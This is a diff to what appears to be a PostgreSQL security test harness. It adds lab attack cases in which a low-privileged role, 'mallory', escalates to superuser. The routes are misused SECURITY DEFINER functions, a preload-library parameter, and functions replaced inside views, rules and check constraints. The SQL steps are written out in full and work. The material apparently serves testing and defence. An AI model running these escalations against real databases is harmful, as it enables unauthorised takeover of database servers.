@@ -51,6 +51,7 @@ class Attack(NamedTuple):
     victim: str = ""
     victim_role: str = "postgres"
     versions: tuple[int, int] = (10, 99)
+    hba: str | None = None
     settings: tuple[tuple[str, str], ...] = ()
 
 
@@ -440,6 +441,41 @@ ATTACKS = (
         versions=(11, 99),
     ),
     Attack(
+        "definer-that-grants-what-it-is-told",
+        ("grant", "definer-roles"),
+        LAB + "CREATE ROLE boss SUPERUSER NOLOGIN;"
+        "CREATE FUNCTION lab.enrol(role_name text, person text) RETURNS void LANGUAGE plpgsql"
+        " SECURITY DEFINER SET search_path = pg_catalog, pg_temp"
+        " AS $f$ BEGIN EXECUTE format('GRANT %I TO %I', role_name, person); END $f$;"
+        "REVOKE EXECUTE ON FUNCTION lab.enrol(text, text) FROM PUBLIC;"
+        "GRANT EXECUTE ON FUNCTION lab.enrol(text, text) TO mallory;",
+        ("SELECT lab.enrol('boss', 'mallory')", "SET ROLE boss", "ALTER ROLE mallory SUPERUSER"),
+    ),
+    Attack(
+        "definer-that-makes-superusers",
+        ("grant", "definer-roles"),
+        LAB + "CREATE FUNCTION lab.new_admin(who text) RETURNS void LANGUAGE plpgsql"
+        " SECURITY DEFINER SET search_path = pg_catalog, pg_temp"
+        " AS $f$ BEGIN EXECUTE format('CREATE ROLE %I LOGIN SUPERUSER', who); END $f$;"
+        "REVOKE EXECUTE ON FUNCTION lab.new_admin(text) FROM PUBLIC;"
+        "GRANT EXECUTE ON FUNCTION lab.new_admin(text) TO mallory;",
+        ("SELECT lab.new_admin('eve')",),
+        won="superuser eve",
+    ),
+    Attack(
+        "definer-that-sets-passwords",
+        ("grant", "definer-roles"),
+        LAB + "CREATE ROLE boss SUPERUSER LOGIN;"
+        "CREATE FUNCTION lab.new_password(who text, word text) RETURNS void LANGUAGE plpgsql"
+        " SECURITY DEFINER SET search_path = pg_catalog, pg_temp AS $f$ BEGIN"
+        " EXECUTE 'ALTER ROLE ' || format('%I WITH PASSWORD %L', who, word); END $f$;"
+        "REVOKE EXECUTE ON FUNCTION lab.new_password(text, text) FROM PUBLIC;"
+        "GRANT EXECUTE ON FUNCTION lab.new_password(text, text) TO mallory;",
+        ("SELECT lab.new_password('boss', 'known-to-mallory')",),
+        won="password of boss",
+        hba="local all boss md5\nlocal all all trust\n",
+    ),
+    Attack(
         "temporary-table-before-a-fixed-path",
         ("grant", "definer-search-path"),
         LAB + "CREATE FUNCTION lab.count_all() RETURNS bigint LANGUAGE plpgsql SECURITY DEFINER"
@@ -514,6 +550,57 @@ ATTACKS = (
             "SELECT public.dblink_connect_u('user=postgres dbname=lab host={folder} port={port}')",
             "SELECT public.dblink_exec('ALTER ROLE mallory SUPERUSER')",
         ),
+    ),
+    Attack(
+        "parameter-that-names-a-library",
+        ("parameter",),
+        "GRANT ALTER SYSTEM ON PARAMETER session_preload_libraries TO mallory;"
+        # a library file of mallory's own: here one that does no harm, under another name
+        "COPY (SELECT 1) TO PROGRAM 'cp {library}/auto_explain.* {folder}/'",
+        ("ALTER SYSTEM SET session_preload_libraries = '{folder}/auto_explain'",),
+        won="library",
+        victim="SELECT pg_reload_conf(); SELECT pg_sleep(0.2)",
+        versions=(15, 99),
+    ),
+    Attack(
+        "function-in-a-view",
+        ("expression",),
+        LAB
+        + "CREATE FUNCTION lab.shown(n integer) RETURNS integer LANGUAGE plpgsql AS 'BEGIN RETURN n; END';"
+        "ALTER FUNCTION lab.shown(integer) OWNER TO mallory; GRANT CREATE ON SCHEMA lab TO mallory;"
+        "CREATE VIEW lab.overview AS SELECT lab.shown(id) AS id FROM lab.patient;",
+        (
+            "CREATE OR REPLACE FUNCTION lab.shown(n integer) RETURNS integer LANGUAGE plpgsql AS"
+            f" $f$ BEGIN {TAKE} RETURN n; END $f$",
+        ),
+        victim="SELECT * FROM lab.overview",
+    ),
+    Attack(
+        "function-in-a-rule",
+        ("expression",),
+        LAB
+        + "CREATE FUNCTION lab.noted(n integer) RETURNS integer LANGUAGE plpgsql AS 'BEGIN RETURN n; END';"
+        "ALTER FUNCTION lab.noted(integer) OWNER TO mallory; GRANT CREATE ON SCHEMA lab TO mallory;"
+        "CREATE TABLE lab.log (id integer);"
+        "CREATE RULE note AS ON INSERT TO lab.patient DO ALSO INSERT INTO lab.log SELECT lab.noted(NEW.id);",
+        (
+            "CREATE OR REPLACE FUNCTION lab.noted(n integer) RETURNS integer LANGUAGE plpgsql AS"
+            f" $f$ BEGIN {TAKE} RETURN n; END $f$",
+        ),
+        victim="INSERT INTO lab.patient VALUES (2, 'made up')",
+    ),
+    Attack(
+        "function-in-a-check-constraint",
+        ("expression",),
+        LAB
+        + "CREATE FUNCTION lab.sound(n integer) RETURNS boolean LANGUAGE plpgsql AS 'BEGIN RETURN true; END';"
+        "ALTER FUNCTION lab.sound(integer) OWNER TO mallory; GRANT CREATE ON SCHEMA lab TO mallory;"
+        "ALTER TABLE lab.patient ADD CHECK (lab.sound(id));",
+        (
+            "CREATE OR REPLACE FUNCTION lab.sound(n integer) RETURNS boolean LANGUAGE plpgsql AS"
+            f" $f$ BEGIN {TAKE} RETURN true; END $f$",
+        ),
+        victim="INSERT INTO lab.patient VALUES (2, 'made up')",
     ),
     Attack(
         "parameter-that-names-a-program",
